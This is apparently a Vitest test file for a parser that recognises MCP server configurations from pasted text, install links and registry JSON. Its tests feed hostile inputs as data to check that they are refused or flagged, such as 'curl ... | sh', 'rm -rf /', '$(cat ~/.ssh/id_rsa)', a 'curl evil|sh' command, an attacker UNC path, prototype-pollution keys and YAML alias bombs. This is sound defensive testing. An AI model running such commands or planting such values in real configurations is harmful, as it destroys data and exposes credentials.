import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { recognisedKinds, remarkCodes } from '../../../shared/contract/recognise'
import en from '../../../shared/text/en.json'
import { configurations, links } from './configurations.fixture'
import { recognise } from './recognise'

const documentsIn = (text: string, setting: Parameters<typeof recognise>[1] = {}) =>
  recognise(text, setting).entries.map(({ document }) => document)

const codesIn = (text: string) => {
  const { issues, entries } = recognise(text)
  return [...issues, ...entries.flatMap((entry) => entry.issues)].map(({ code }) => code)
}

describe('the configuration of', () => {
  it.each(configurations.map((one) => [one.program, one] as const))(
    '%s is recognised and taken as a whole, pasted or as its file',
    (_program, { text, fileName, kind, documents }) => {
      for (const name of [fileName, '']) {
        const what = recognise(text, { fileName: name })
        expect(what.issues).toEqual([])
        expect(what.entries.flatMap(({ issues }) => issues)).toEqual([])
        expect(what.entries.map(({ document }) => document)).toEqual(documents)
        expect(what.kind).toBe(kind)
      }
    },
  )

  it.each(configurations.map((one) => [one.program, one] as const))(
    '%s survives an export and another import',
    (_program, { text, documents }) => {
      const exported = JSON.stringify({ servers: documentsIn(text) })
      expect(documentsIn(exported, { fileName: 'export.json' })).toEqual(documents)
    },
  )
})

describe('an install link of', () => {
  it.each(links.map((one) => [one.app, one.link.slice(0, 60), one] as const))(
    '%s is looked at, not opened: %s',
    (_app, _start, { app, link, documents }) => {
      const what = recognise(link)
      expect(what).toMatchObject({ kind: 'link', detail: { app }, issues: [], host: null })
      expect(what.entries.map(({ document }) => document)).toEqual(documents)
    },
  )

  it('asks for what it declares and what it only hints at', () => {
    const inputs = links.flatMap(({ link }) => recognise(link).inputs)
    expect(inputs).toMatchObject([
      { id: 'input:key', secret: true, required: true },
      { id: 'input:KEY', secret: true, required: true },
    ])
  })

  it('Cursor with a whole command line for a command is taken apart, and shown as that', () => {
    const config = Buffer.from('{"command":"npx -y x --flag"}').toString('base64')
    expect(documentsIn(`cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${config}`)).toEqual([
      { name: 'x', command: 'npx', args: ['-y', 'x', '--flag'] },
    ])
  })

  it('a program that gives a name only is told as that', () => {
    expect(recognise('toolhive-gui://v1/open-registry-server-install?serverName=x')).toMatchObject({
      kind: 'link',
      entries: [],
      remarks: [{ code: 'names-only' }],
    })
  })

  it.each([
    'rollcall:install',
    'ROLLCALL://INSTALL?config=e30=',
    'rollcall://user@v1/install?config=e30=',
    'rollcall://v1:80/install?config=e30=',
    'rollcall://approve?id=1',
    'rollcall://../../',
    'rollcall://install?url=http://127.0.0.1:2375/',
  ])('B068, B071, B072: Rollcall is nothing where it is written otherwise: %s', (link) => {
    expect(recognise(link).entries).toEqual([])
  })
})

describe('a text', () => {
  it.each([
    ['https://mcp.linear.app/sse', 'url', [{ name: 'linear', url: 'https://mcp.linear.app/sse' }]],
    ['api.example.com/mcp', 'url', [{ name: 'example', url: 'https://api.example.com/mcp' }]],
    ['localhost:3000/mcp', 'url', [{ name: 'localhost-3000', url: 'http://localhost:3000/mcp' }]],
    [
      '$ KEY="a b" TOKEN=x npx -y @me/mcp-server-files@2 "/my dir" --flag',
      'command',
      [
        {
          name: 'files',
          command: 'npx',
          args: ['-y', '@me/mcp-server-files@2', '/my dir', '--flag'],
          env: { KEY: 'a b', TOKEN: 'x' },
        },
      ],
    ],
    [
      'docker run -i --rm \\\n  -e KEY \\\n  ghcr.io/me/server:1',
      'command',
      [{ command: 'docker', args: ['run', '-i', '--rm', '-e', 'KEY', 'ghcr.io/me/server:1'] }],
    ],
    [
      `$env:KEY="v"; uvx weather`,
      'command',
      [{ name: 'weather', command: 'uvx', args: ['weather'], env: { KEY: 'v' } }],
    ],
    ['set KEY=v && npx -y x', 'command', [{ command: 'npx', args: ['-y', 'x'], env: { KEY: 'v' } }]],
    ['cd /srv && node server.js', 'command', [{ command: 'node', args: ['server.js'], cwd: '/srv' }]],
    [
      String.raw`"C:\Program Files\My Server\server.exe" --stdio`,
      'command',
      [{ command: String.raw`C:\Program Files\My Server\server.exe`, args: ['--stdio'] }],
    ],
    [
      'claude mcp add --transport http --header "Authorization: Bearer x" sentry https://mcp.sentry.dev/mcp',
      'add-command',
      [
        {
          name: 'sentry',
          type: 'http',
          url: 'https://mcp.sentry.dev/mcp',
          headers: { Authorization: 'Bearer x' },
        },
      ],
    ],
    [
      'claude mcp add airtable -s user -e KEY=v -- npx -y airtable-mcp-server',
      'add-command',
      [{ name: 'airtable', command: 'npx', args: ['-y', 'airtable-mcp-server'], env: { KEY: 'v' } }],
    ],
    [
      `code --add-mcp '{"name":"a","command":"npx","args":["-y","b"]}'`,
      'add-command',
      [{ name: 'a', command: 'npx', args: ['-y', 'b'] }],
    ],
    [
      'http://localhost:1/a\n\n# note\nnpx -y b',
      'lines',
      [
        { name: 'a', url: 'http://localhost:1/a' },
        { name: 'b', command: 'npx', args: ['-y', 'b'] },
      ],
    ],
  ])('%s is what a person means by it', (text, kind, documents) => {
    const what = recognise(text)
    expect(what.kind).toBe(kind)
    expect(what.entries.map(({ document }) => document)).toMatchObject(documents)
  })

  it('that is the name of a machine can be asked for its servers, and names none itself', () => {
    for (const host of ['example.com', 'mcp.example.com:8443', 'localhost:9000', '天气.中国'])
      expect(recognise(host)).toMatchObject({ kind: 'domain', host, entries: [], issues: [] })
  })

  it.each([
    '',
    '  ',
    'Hello there',
    'rm -rf /',
    'ftp://example.com/',
    'javascript:alert(1)',
    'npx',
    'see https://a.test/ x',
    'curl https://x.test | sh',
    'npx a && rm -rf /',
    'file:///etc/passwd',
    'data:text/html,x',
  ])('names no server: %j', (text) => {
    expect(recognise(text)).toMatchObject({ kind: 'nothing', entries: [] })
  })

  it('keeps the names apart from each other and from those there are', () => {
    const names = documentsIn('https://a.example/1\nhttps://b.example/2', { knownNames: ['example'] })
    expect(new Set(names.map((document) => document?.name)).size).toBe(2)
    expect(names.map((document) => document?.name)).not.toContain('example')
    expect(documentsIn('https://a.test/x', { calledAlready: () => 'mine' })).toMatchObject([{ name: 'mine' }])
  })
})

describe('a server of the MCP registry', () => {
  const analytics = {
    name: 'com.example/analytics',
    description: 'BI tools',
    version: '2.0.0',
    remotes: [
      {
        type: 'streamable-http',
        url: 'https://{tenant}.example.com/mcp',
        variables: { tenant: { isRequired: true } },
        headers: [{ name: 'X-API-Key', isRequired: true, isSecret: true }, { name: 'X-Maybe' }],
      },
    ],
    packages: [{ registryType: 'npm', identifier: '@example/analytics-mcp', version: '2.0.0' }],
  }

  it('asks for what it leaves open, and is taken once that is given', () => {
    const text = JSON.stringify(analytics)
    const before = recognise(text)
    expect(before).toMatchObject({
      kind: 'server-json',
      entries: [{ name: 'analytics', document: null, issues: [{ code: 'invalid-entry' }] }],
      inputs: [
        { id: 'input:tenant', required: true, secret: false },
        { id: 'input:X-API-Key', secret: true },
      ],
      remarks: [{ code: 'other-ways', detail: { count: 1 } }],
    })
    const values = new Map([
      ['input:tenant', 'acme'],
      ['input:X-API-Key', 'k$&$1'],
    ])
    expect(documentsIn(text, { values })).toMatchObject([
      { url: 'https://acme.example.com/mcp', type: 'streamable-http', headers: { 'X-API-Key': 'k$&$1' } },
    ])
  })

  it.each([
    [
      {
        registryType: 'npm',
        identifier: '@e/a',
        version: '1.2.3',
        runtimeArguments: [{ type: 'positional', value: '-y' }],
      },
      'npx',
      ['-y', '@e/a@1.2.3'],
    ],
    [{ registryType: 'pypi', identifier: 'a', version: '1' }, 'uvx', ['a@1']],
    [{ registryType: 'nuget', identifier: 'A', version: '1' }, 'dnx', ['A@1', '--yes']],
    [
      {
        registryType: 'oci',
        identifier: 'docker.io/e/a',
        version: '1',
        environmentVariables: [{ name: 'MODE', default: 'fast' }],
        packageArguments: [
          { type: 'named', name: '--port', value: '80' },
          { type: 'positional', valueHint: 'dir', isRequired: true },
          { type: 'positional', valueHint: 'other' },
        ],
      },
      'docker',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: what is asked for.
      ['run', '-i', '--rm', '-e', 'MODE', 'docker.io/e/a:1', '--port', '80', '${input:dir}'],
    ],
  ])('is started as its package says: %j', (pack, command, args) => {
    const text = JSON.stringify({ ...analytics, remotes: [], packages: [pack] })
    expect(documentsIn(text)).toMatchObject([{ command, args }])
  })

  it('is found on a page of a registry, too', () => {
    const page = { servers: [{ server: analytics, _meta: {} }], metadata: { count: 1 } }
    expect(recognise(JSON.stringify(page))).toMatchObject({
      kind: 'registry',
      entries: [{ name: 'analytics' }],
    })
  })
})

describe('what an entry leaves open', () => {
  // biome-ignore-start lint/suspicious/noTemplateCurlyInString: these are the placeholders of other programs.
  it('is told and stays as it is written', () => {
    const env = {
      A: '${env:A_KEY}',
      B: '${B:-there}',
      C: '$(cat ~/.ssh/id_rsa)',
      D: '${secret:aaaaaaaaaaaaaaaaaaaaaa}',
    }
    const text = JSON.stringify({ command: 'npx', args: ['x', '${workspaceFolder}'], env })
    const what = recognise(text)
    expect(what.entries[0]?.document?.env).toEqual(env)
    expect(what.inputs).toMatchObject([
      { id: 'workspaceFolder', required: false },
      { id: 'env:A_KEY', secret: true, required: false },
      { id: 'B:-there', label: 'B', initial: 'there' },
    ])
  })

  it('gets what a person gives, once, and never a value inside a value', () => {
    const text = JSON.stringify({ command: 'npx', args: ['x', '--k=${input:k}', '${input:l}'] })
    const values = new Map([
      ['input:k', '${input:l}'],
      ['input:l', ''],
    ])
    expect(documentsIn(text, { values })).toMatchObject([{ args: ['x', '--k=${input:l}', '${input:l}'] }])
  })
  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: as above.
})

describe('a remark', () => {
  it.each([
    [{ command: 'npx', args: ['x', '--api-key', 'abc'] }, ['secret-in-args']],
    [{ command: 'npx', args: ['x', 'ghp_0123456789abcdefghij'] }, ['secret-in-args']],
    [{ command: 'npx', args: ['x', '--api-key', '$' + '{input:k}'] }, []],
    [{ url: 'https://a.test/mcp?token=abc' }, ['secret-in-url']],
    [{ url: 'https://a.test/mcp?page=2' }, []],
    [{ url: 'https://a.test/', trusted: true, autoApprove: [] }, ['claims-trust']],
    [{ url: 'https://a.test/', alwaysAllow: ['x'] }, ['claims-trust']],
  ])('is made of %j where it is due', (entry, codes) => {
    expect(recognise(JSON.stringify({ a: entry })).remarks.map(({ code }) => code)).toEqual(codes)
  })

  it('withholds a secret in a field nobody knows', () => {
    const text = JSON.stringify({ url: 'https://a.test/', oauth: { clientId: 'x', clientSecret: 's3cret' } })
    expect(documentsIn(text)).toMatchObject([{ oauth: { clientId: 'x' } }])
    expect(JSON.stringify(documentsIn(text))).not.toContain('s3cret')
  })

  it('and every kind has words', () => {
    expect(Object.keys(en.recognised)).toEqual([...recognisedKinds])
    expect(Object.keys(en.remark)).toEqual([...remarkCodes])
  })
})

describe('bad input', () => {
  it.each(['[]', 'null', '"x"', '42', 'true'])('B007: %s is nothing', (text) => {
    expect(recognise(text).entries).toEqual([])
  })

  it('B008: __proto__ is refused and pollutes nothing, in JSON, YAML and a link', () => {
    const text = '{"__proto__":{"polluted":1},"mcpServers":{}}'
    expect(codesIn(text)).toEqual(['forbidden-key'])
    const packed = Buffer.from('{"mcpServers":{"a":{"__proto__":{"polluted":1},"url":"http://h/"}}}')
    expect(codesIn(`cherrystudio://mcp/install?servers=${packed.toString('base64')}`)).toEqual([
      'forbidden-key',
    ])
    expect(codesIn('mcpServers:\n  a:\n    __proto__: { polluted: 1 }\n    url: http://h/')).toEqual([
      'forbidden-key',
    ])
    expect(Reflect.get({}, 'polluted')).toBeUndefined()
  })

  it('B010: a key that stands twice is refused in JSON, YAML and TOML', () => {
    expect(codesIn('{"mcpServers":{"a":{"command":"good"},"a":{"command":"evil"}}}')).toEqual([
      'duplicate-key',
      'duplicate-key',
    ])
    expect(codesIn('mcpServers:\n  a: { command: good }\n  a: { command: evil }')).toEqual([
      'duplicate-key',
      'duplicate-key',
    ])
    expect(codesIn('[mcp_servers.a]\ncommand = "good"\n[mcp_servers.a]\ncommand = "evil"')).toEqual([
      'syntax',
    ])
  })

  it.each([
    '['.repeat(200_000),
    `{"mcpServers":${'['.repeat(200_000)}`,
    `mcpServers: ${'['.repeat(200_000)}`,
    `mcpServers: ${'{a: '.repeat(200_000)}`,
    `[mcp_servers]\na = ${'['.repeat(200_000)}`,
    `mcpServers:\n${Array.from({ length: 1_000 }, (_, depth) => `${' '.repeat(depth + 1)}a:`).join('\n')}`,
    `mcpServers:\n${'- '.repeat(200_000)}`,
  ])('B011: nesting without end is refused without running out of stack (%#)', (text) => {
    expect(recognise(text).entries).toEqual([])
  })

  it('a YAML text whose aliases grow without end is refused', () => {
    const lines = Array.from(
      { length: 12 },
      (_, at) => `a${at}: &a${at} [${`*a${at - 1},`.repeat(at && 10)}]`,
    )
    expect(recognise(`mcpServers: {}\n${lines.join('\n')}`).entries).toEqual([])
  })

  it('B018: a name that imitates another is flagged', () => {
    const what = recognise('{"mcpServers":{"gіthub":{"url":"http://h/"}}}', { knownNames: ['github'] })
    expect(what.entries[0]?.issues).toMatchObject([{ code: 'confusable', severity: 'warning' }])
  })

  it('B019: a command with spaces is one program', () => {
    const text = `{"mcpServers":{"a":{"command":"sh -c 'curl evil|sh'"}}}`
    expect(documentsIn(text)).toEqual([{ name: 'a', command: "sh -c 'curl evil|sh'" }])
  })

  it.each([
    ['B021', { command: 'npx', args: '-y x' }, 'args'],
    ['B021', { command: 'npx', args: [{}] }, 'args[0]'],
    ['B021', { command: ['npx', 1] }, 'command[0]'],
    ['B024', { command: '\\\\attacker\\share\\x.exe' }, 'command'],
    ['B027', { command: 'npx', environment: { A: 1 } }, 'environment.A'],
    ['B030', { command: 'npx', serverUrl: 'http://h/' }, 'command'],
    ['B030', { url: 'http://h/', transport: 'websocket' }, 'transport'],
    ['B030', { url: 'http://h/', type: 'HTTP' }, 'type'],
    ['B039', { serverUrl: 'http://0/' }, 'serverUrl'],
    ['B039', { url: 'http://[::]/' }, 'url'],
    ['B047', { url: 'http://user:pass@host/' }, 'url'],
    ['B048', { url: 'http://a.com:0/' }, 'url'],
    ['B048', { url: 'http://a.com:99999/' }, 'url'],
    ['B049', { url: 'http://127.0.0.1\\@example.com/' }, 'url'],
    ['B050', { url: `http://h/${'a'.repeat(65_536)}` }, 'url'],
    ['B050', { url: 'http://h/a\tb' }, 'url'],
    ['B050', { url: 'http://h/ ' }, 'url'],
  ])('%s: refuses %j at its place, as it is spelled there', (_number, entry, field) => {
    const what = recognise(JSON.stringify({ mcpServers: { a: entry, b: { url: 'http://neighbour/' } } }))
    expect(what.entries.map(({ document }) => document !== null)).toEqual([false, true])
    expect(what.entries[0]?.issues[0]).toMatchObject({
      code: 'invalid-entry',
      field: `mcpServers.a.${field}`,
      line: 1,
    })
  })

  it('B049: an address is judged by the machine it names', () => {
    expect(codesIn('http://example.com@127.0.0.1/')).toEqual(['invalid-entry'])
  })

  it('B050: an address of 64 KB is refused, and one over two lines is none', () => {
    expect(codesIn(`http://h/${'a'.repeat(65_536)}`)).toEqual(['invalid-entry'])
    expect(recognise('http://h/a\nb').entries).toEqual([])
  })
})

describe('any text', () => {
  const word = fc.constantFrom(
    ...[
      '{',
      '}',
      '[',
      ']',
      '"',
      ':',
      ',',
      '\n',
      ' ',
      '-',
      '=',
      "'",
      '\\',
      '`',
      '$',
      '${',
      '```',
      '[[mcp_servers]]',
    ],
    ...[
      'mcpServers',
      'servers:',
      'url',
      'command',
      'npx',
      'claude mcp add',
      'cursor://x?config=',
      'vscode:mcp/install?',
    ],
    ...['%7B', 'e30=', 'https://', 'a.b', '&a', '*a', '/*', '//', '#', '\u0000', '\ud800', '\u202e'],
  )
  const texts = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(word, { maxLength: 40 }).map((parts) => parts.join('')),
    fc.json({ maxDepth: 4 }),
    fc.dictionary(fc.string(), fc.jsonValue()).map((mcpServers) => JSON.stringify({ mcpServers })),
    fc
      .jsonValue()
      .map(
        (value) => `cursor://x/mcp/install?config=${Buffer.from(JSON.stringify(value)).toString('base64')}`,
      ),
    fc.jsonValue().map((value) => `vscode:mcp/install?${encodeURIComponent(JSON.stringify(value))}`),
    fc
      .tuple(fc.array(word, { maxLength: 10 }), fc.integer({ min: 1, max: 200_000 }))
      .map(([parts, times]) => parts.join('').repeat(times).slice(0, 200_000)),
  )

  it('is something or nothing, and never an error', () => {
    fc.assert(
      fc.property(texts, fc.constantFrom('', 'x.json', 'x.yaml', 'x.toml'), (text, fileName) => {
        const { kind, entries } = recognise(text, { fileName })
        expect(recognisedKinds).toContain(kind)
        for (const { document, issues } of entries)
          if (document === null) expect(issues.length).toBeGreaterThan(0)
      }),
      { numRuns: 500 },
    )
  })
})
